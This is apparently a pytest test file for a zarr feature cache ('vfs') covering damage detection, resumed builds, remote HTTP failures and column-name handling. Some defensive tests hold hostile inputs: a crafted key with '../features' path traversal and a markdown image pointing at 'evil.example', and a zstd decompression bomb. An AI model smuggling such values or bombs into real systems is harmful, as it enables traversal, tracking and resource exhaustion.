def test_a_cache_that_lost_an_array_is_named_damaged_not_a_traceback(tmp_path, array, capsys):
    """A whole array's folder gone: `info`, a search and the build's rerun said KeyError with a
    stack trace (helper trial); now each says which array and to build the cache anew."""
    import shutil

    from vfs.cli import main

    build(tmp_path / "c.zarr", 12)
    shutil.rmtree(tmp_path / "c.zarr" / array)
    damaged = f"damaged: its array '{array}' is missing; build it anew"
    with pytest.raises(CacheError, match=damaged):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(12), 32)
    assert main(["info", str(tmp_path / "c.zarr")]) == 2
    assert damaged in capsys.readouterr().err


def test_a_manifest_column_of_missing_values_is_stored_not_taken_for_lost(tmp_path):
    """zarr leaves out a chunk that is all fill value; a table's column of missing values ("")
    is stored all the same, so that a missing file can be told for damage."""
    table = candidates(30).assign(label=None)
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, table, 32)
    fill(w, range(30))
    w.finish(table)
    assert (tmp_path / "c.zarr" / "manifest" / "label" / "c" / "0").is_file()
    cache = open_cache(tmp_path / "c.zarr")
    assert cache.info()["lost_columns"] == [] and cache.manifest["label"].isna().all()
    with pytest.raises(AlreadyComplete):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, table, 32)


def test_an_older_cache_without_every_chunk_stored_is_not_taken_for_damaged(tmp_path):
    """Caches written before `all_chunks_stored` have no file for an all-zero chunk (zarr's
    default): a rerun of their build must find them complete, not recompute from there."""
    build(tmp_path / "c.zarr", 30)
    out = tmp_path / "c.zarr"
    group = zarr.open_group(out, mode="r+")
    group.attrs.update(
        {k: v for k, v in group.attrs.items() if k != "all_chunks_stored"} | {"all_chunks_stored": False}
    )
    thumbs = group["thumbs"]
    (out / "thumbs" / thumbs.metadata.encode_chunk_key((1, 0, 0, 0))).unlink()  # as if all black
    assert open_cache(out).info()["lost_from"] is None
    with pytest.raises(AlreadyComplete):
        CacheWriter.open(out, SPEC, candidates(30), 32)
    assert open_cache(out).complete


def test_a_resume_follows_the_dataset_to_its_new_place_but_not_to_other_images(tmp_path):
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(20), 32, job={"data": SPEC.data.source})
    fill(w, range(9))
    moved = replace(SPEC, data=replace(SPEC.data, source="/mnt/elsewhere/manifest.csv"), weights="sha256:new")
    resumed = CacheWriter.open(tmp_path / "c.zarr", moved, candidates(20), 32)
    assert resumed.rows == 7
    partial = open_cache(tmp_path / "c.zarr", allow_partial=True)
    assert partial.info()["nbytes_features"] == 7 * 4 * 5 * 8 * 2  # the images stored so far
    # of how many: "n": 0 and "stored" alone did not say (CLI review)
    assert {k: partial.info()[k] for k in ("stored", "candidates")} == {"stored": 7, "candidates": 20}
    attrs = partial.attrs
    assert attrs["spec"]["data"]["source"] == attrs["job"]["data"] == "/mnt/elsewhere/manifest.csv"
    assert "weights" not in attrs["spec"]  # a cache from before digests is not stamped with today's model's
    shuffled = candidates(20).iloc[::-1].reset_index(drop=True)
    with pytest.raises(
        CacheError, match="started on other images \\(image 0: 'img/0.png' there, 'img/19.png' here"
    ):
        CacheWriter.open(tmp_path / "c.zarr", moved, shuffled, 32)
    with pytest.raises(CacheError, match="dataset of 20 images, this one has 21"):
        CacheWriter.open(tmp_path / "c.zarr", moved, candidates(21), 32)


def test_a_resume_follows_a_checkpoint_to_its_recorded_absolute_path_but_not_to_other_weights(tmp_path):
    """Caches recorded a `file:` checkpoint as typed (relative to the build's folder); VFS now records it
    absolute, and a cache started before resumed no more: "built with another setting (model: …)" (a
    review). The same weights under the new spec resume, and the cache then records the new one."""
    before = replace(SPEC, model="file:r18.pt?arch=resnet18", weights="sha256:aa")
    w = CacheWriter.open(tmp_path / "c.zarr", before, candidates(20), 32, job={"model": before.model})
    fill(w, range(9))
    now = replace(before, model=f"file:{tmp_path / 'r18.pt'}?arch=resnet18")
    assert CacheWriter.open(tmp_path / "c.zarr", now, candidates(20), 32).rows == 7
    attrs = open_cache(tmp_path / "c.zarr", allow_partial=True).attrs
    assert attrs["spec"]["model"] == attrs["job"]["model"] == now.model
    with pytest.raises(CacheError, match="weights: 'sha256:aa' ≠ 'sha256:bb'"):
        CacheWriter.open(tmp_path / "c.zarr", replace(before, weights="sha256:bb"), candidates(20), 32)


def test_a_rerun_of_a_finished_build_has_nothing_to_do(tmp_path):
    from vfs.cache.writer import AlreadyComplete

    build(tmp_path / "c.zarr", 10)
    with pytest.raises(AlreadyComplete, match="nothing to do"):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(10), 32)
    with pytest.raises(CacheError, match="this one has 12: build it into another output"):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(12), 32)
    others = candidates(10).assign(path=[f"other/{i}.jpg" for i in range(10)])  # as many, but not these
    with pytest.raises(CacheError, match="complete, built from other images than these"):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, others, 32)
    build(tmp_path / "skips.zarr", 10, bad={4})  # the stored manifest lacks a skipped image: still the same
    with pytest.raises(AlreadyComplete):
        CacheWriter.open(tmp_path / "skips.zarr", SPEC, candidates(10), 32)


def test_the_notebook_offers_no_missing_value_as_a_finding(tmp_path):
    """As the page: '(missing)' is no finding to split present / absent (its images are in neither)."""
    from vfs.notebook import distribution_table

    build(tmp_path / "c.zarr", 12)  # labels "cat|dog", and None every third image
    cache = open_cache(tmp_path / "c.zarr")
    result = search_regions(cache, 1, np.ones((4, 5)))
    assert set(distribution_table(cache, result, by="label")["group"]) == {"cat", "dog", "(missing)"}
    assert dict(distribution_table(cache, result, by="label", finding="cat")[["group", "n"]].values) == {
        "True": 8,
        "False": 0,
    }
    with pytest.raises(ValueError, match="no image has '\\(missing\\)' in column 'label'"):
        distribution_table(cache, result, by="label", finding="(missing)")
    # one image per value of a column, as the page's "Count one image per": each dom's first
    per_dom = distribution_table(cache, result, by="dom", leave_out=(), one_per="dom")
    assert per_dom["n"].tolist() == [1] * cache.manifest["dom"].nunique()


def test_a_remote_cache_that_never_answers_fails_after_its_silence(monkeypatch):
    """A server that takes the connection and sends nothing held a reader for aiohttp's five
    minutes (security review): a read now fails after `REMOTE_SILENCE_S` without a byte."""
    import socket
    import threading
    import time

    listener = socket.create_server(("127.0.0.1", 0))
    held = []  # the connections, open and silent
    threading.Thread(target=lambda: [held.append(listener.accept()) for _ in range(8)], daemon=True).start()
    monkeypatch.setattr("vfs.cache.reader.REMOTE_SILENCE_S", 1)
    start = time.perf_counter()
    with pytest.raises(CacheError, match="cannot open the cache at http"):
        open_cache(f"http://127.0.0.1:{listener.getsockname()[1]}/c.zarr")
    assert time.perf_counter() - start < 20
    listener.close()


def test_a_remote_caches_zstd_chunk_is_bounded_as_a_local_ones(tmp_path):
    """Over HTTP too, a zstd chunk that declares more than its chunk's bytes is refused before zarr
    decodes it (code review: only local caches were checked)."""
    import numcodecs
    from cachehelpers import served

    build(tmp_path / "c.zarr", 6)
    thumbs = tmp_path / "c.zarr" / "thumbs" / "c" / "0" / "0" / "0" / "0"
    assert thumbs.is_file()
    with served(tmp_path) as base:
        url = f"{base}/c.zarr"
        assert open_cache(url).thumb(0).shape == open_cache(tmp_path / "c.zarr").thumb(0).shape
        thumbs.write_bytes(numcodecs.Zstd().encode(bytes(1 << 26)))  # 64 MiB of zeros, 2 KB compressed
        with pytest.raises(CacheError, match="declares 67,108,864 bytes decoded, more than its chunk may"):
            open_cache(url).thumb(0)


def test_a_remote_server_that_fails_is_unreachable_not_a_damaged_cache(tmp_path):
    """fsspec's HTTP `exists` says False to any failure: a server answering 500, or gone, made every
    read "damaged: features rows 0..5 are missing; rerun the build" (review). A 404 still is."""
    import threading
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    build(tmp_path / "c.zarr", 6)
    failing = {"on": False, "status": 500, "forbidden_if_absent": False, "manifest": False}

    class Handler(SimpleHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            if "//" in self.path:  # as S3 and GCS: a doubled slash names another key
                self.send_error(404)
            elif failing["forbidden_if_absent"] and not os.path.exists(self.translate_path(self.path)):
                self.send_error(403)  # as S3 without the right to list: a key not there is forbidden
            elif failing["on"] and ("/features/c/" in self.path or self.path.endswith("/zarr.json")):
                self.send_error(failing["status"], "disk on fire")
            elif failing["manifest"] and "/manifest/label/c/" in self.path:
                self.send_error(500, "disk on fire")
            else:
                super().do_GET()

        do_HEAD = do_GET

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=str(tmp_path)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/c.zarr"
    try:
        cache = open_cache(url)
        assert np.array_equal(cache.rows(np.array([1])), open_cache(tmp_path / "c.zarr").rows(np.array([1])))
        assert np.array_equal(open_cache(url + "/").rows(np.array([1])), cache.rows(np.array([1])))  # review
        failing["on"] = True
        with pytest.raises(
            CacheError, match=r"its server did not serve it \(ClientResponseError: 500"
        ) as refused:
            cache.rows(np.array([1]))
        assert "missing" not in str(refused.value)
        failing["status"] = 503
        assert not cache.replaced_on_disk()  # unknown, not replaced: it raised, and crashed the app's pages
        failing["on"] = False
        chunk = tmp_path / "c.zarr" / "features" / "c" / "0" / "0" / "0" / "0"
        chunk.rename(tmp_path / "away")
        with pytest.raises(CacheError, match="is damaged: features rows 0..5 are missing"):
            open_cache(url).rows(np.array([1]))  # a 404: lost
        failing["forbidden_if_absent"] = True
        with pytest.raises(CacheError, match=r"its server refuses it \(ClientResponseError: 403.*not there"):
            open_cache(url).rows(np.array([1]))  # not "try again later"
        failing["forbidden_if_absent"] = False
        (tmp_path / "away").rename(chunk)
        cache = open_cache(url)
        failing["manifest"] = True  # `check`: a column the server fails to serve is no lost column (review)
        with pytest.raises(CacheError, match=r"its server did not serve it \(ClientResponseError: 500"):
            cache.check()
        failing["manifest"] = False
    finally:
        server.shutdown()
        server.server_close()
    with pytest.raises(CacheError, match="its server did not serve it .*try again later") as refused:
        cache.rows(np.array([1]))  # the server gone
    assert "missing" not in str(refused.value)


def test_a_replacement_watch_asks_in_the_background_and_remembers_the_answer():
    """The app's and the notebook widget's question whether another cache stands at an open one's
    place: a server that hangs holds no caller past its wait, questions come at most every
    `every_s`, one at a time, and a replaced cache stays replaced."""
    import threading
    import time

    from vfs.cache import ReplacementWatch

    answer, asked = threading.Event(), []

    class Slow:  # a cache whose store answers once `answer` is set: `Slow.replaced`
        replaced = False

        def replaced_on_disk(self):
            asked.append(time.monotonic())
            answer.wait(30)
            return Slow.replaced

    watch = ReplacementWatch(Slow())
    started = time.monotonic()
    assert not watch.replaced(wait_s=0.05)
    waited = time.monotonic()
    assert not watch.replaced(wait_s=5.0)  # the question out: not asked twice, nor waited for again
    assert time.monotonic() - waited < 1 and time.monotonic() - started < 5 and len(asked) == 1
    answer.set()
    watch._asking.join(10)
    assert not watch.replaced(every_s=60.0, wait_s=10) and len(asked) == 1  # asked less than 60 s ago
    Slow.replaced = True
    assert watch.replaced(every_s=0.0, wait_s=None) and len(asked) == 2  # waited for: asked in the call
    Slow.replaced = False
    assert watch.replaced() and len(asked) == 2  # replaced for good: not asked again


@pytest.mark.parametrize(
    "names",
    [["..", "."], ["path/c"], ["g/h", "g"], ["label/c/0", "__x", "column 5"], ["zarr.json", "é" * 150]],
)
def test_any_column_name_is_stored_and_read_back(tmp_path, names):
    """A manifest's column names are anyone's text: `..`, `a/b`, `g` beside `g/h` failed the build
    with zarr's words and left its `.creating` folder (data review). Each is stored under a name
    zarr takes (the table's `keys`; "column 5" taken by a name, the next), read, checked, and found
    lost as any other column when its array is gone."""
    table = candidates(6)
    for i, name in enumerate(names):
        table[name] = [f"{name}-{j % (i + 2)}" for j in range(6)]
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, table, 32)
    fill(w, range(6))
    w.finish(table)
    assert not list(tmp_path.glob("*.creating"))
    cache = open_cache(tmp_path / "c.zarr")
    pd.testing.assert_frame_equal(cache.manifest[names], table[names], check_dtype=False)
    assert cache.check().ok
    group = zarr.open_group(tmp_path / "c.zarr", mode="r")
    assert group.attrs["format_version"] == 2  # a VFS that knows no keys refuses it, not calls it damaged
    keys = group["manifest"].attrs["keys"]
    assert set(keys) == {n for n in names if n not in ("g", "column 5")} and len(set(keys.values())) == len(
        keys
    )
    shutil.rmtree(tmp_path / "c.zarr" / "manifest" / keys[names[0]])
    assert [names[0]] == cache.check().lost_columns == open_cache(tmp_path / "c.zarr").lost_columns()


def test_a_crafted_column_key_is_a_lost_column_not_a_crash(tmp_path):
    """A cache whose `keys` names no column's array (`../features`, markdown): `check` stopped
    with an error and no JSON, a rerun of the build refused (review). The column is lost: damage."""
    build(tmp_path / "c.zarr", 6)
    assert zarr.open_group(tmp_path / "c.zarr", mode="r").attrs["format_version"] == 1  # no keys: as before
    table = zarr.open_group(tmp_path / "c.zarr", mode="r+")["manifest"]
    table.attrs["keys"] = {"dom": "../features", "label": "![t](https://evil.example/t.png)"}
    cache = open_cache(tmp_path / "c.zarr")
    assert cache.check().lost_columns == ["label", "dom"] == cache.lost_columns()
    with pytest.raises(CacheError, match="column\\(s\\) 'label', 'dom' are missing on disk"):
        cache.manifest


def test_a_cache_whose_creation_fails_leaves_nothing_on_disk(tmp_path, monkeypatch):
    """A creation that failed half-way left its `.creating` folder beside the output (data review)."""
    import vfs.cache.writer

    def full(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(vfs.cache.writer, "write_table", full)
    with pytest.raises(OSError, match="No space left"):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(3), 32)
    assert list(tmp_path.iterdir()) == []


def test_an_empty_folder_is_no_cache_to_open_but_an_output_to_build_into(tmp_path):
    """`mkdir out && build --out out` was refused, and opening a folder that is no cache said
    zarr's "GroupNotFoundError: No group found in store LocalStore(…)" (CLI review)."""
    (tmp_path / "out").mkdir()
    with pytest.raises(
        CacheError, match=r"no cache at .*out: it is an empty folder; a cache is the folder a build"
    ):
        open_cache(tmp_path / "out")
    with pytest.raises(CacheError, match=r"it is no zarr group; a cache is the folder"):
        open_cache(tmp_path)
    build(tmp_path / "out", 4)
    assert open_cache(tmp_path / "out").n == 4


def test_a_search_of_a_cache_imports_no_model_library(tmp_path):
    """torchvision's import (1.3 s, torch._dynamo with it) came with `vfs.cache` — by the torchvision
    datasets and transforms the data and spec modules imported — into every CLI search and app
    start that loads no model: a CLI search of the demo cache took 4.6 s, 2.9 s without."""
    import subprocess
    import sys

    build(tmp_path / "c.zarr", 6)
    code = (
        "import sys, numpy as np, vfs.cli, ui.core, ui.query, ui.views\n"
        "from vfs.cache import open_cache\nfrom vfs.search import search_regions\n"
        f"search_regions(open_cache({str(tmp_path / 'c.zarr')!r}), 0, np.ones((4, 5)), k=3)\n"
        "print(sorted(m for m in ('torchvision', 'timm', 'torch._dynamo') if m in sys.modules))\n"
    )
    root = Path(__file__).resolve().parents[1]
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=root, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "[]"
